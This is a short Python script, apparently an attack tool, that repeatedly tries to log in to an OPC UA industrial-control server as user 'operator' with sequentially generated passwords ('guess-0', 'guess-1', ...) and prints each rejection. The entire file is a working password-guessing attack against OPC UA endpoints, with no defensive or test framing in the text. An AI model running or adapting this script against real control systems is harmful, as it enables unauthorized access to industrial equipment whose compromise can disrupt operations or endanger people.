"""Guesses an OPC UA password.

attack_opcua.py SERVER TIMES
"""

import asyncio
import sys

from asyncua import Client, ua


async def main() -> None:
    for turn in range(int(sys.argv[2])):
        client = Client(f"opc.tcp://{sys.argv[1]}:4840/cell")
        client.set_user("operator")
        client.set_password(f"guess-{turn}")
        try:
            async with client:
                pass
        except ua.UaError as refused:
            print(refused)


asyncio.run(main())
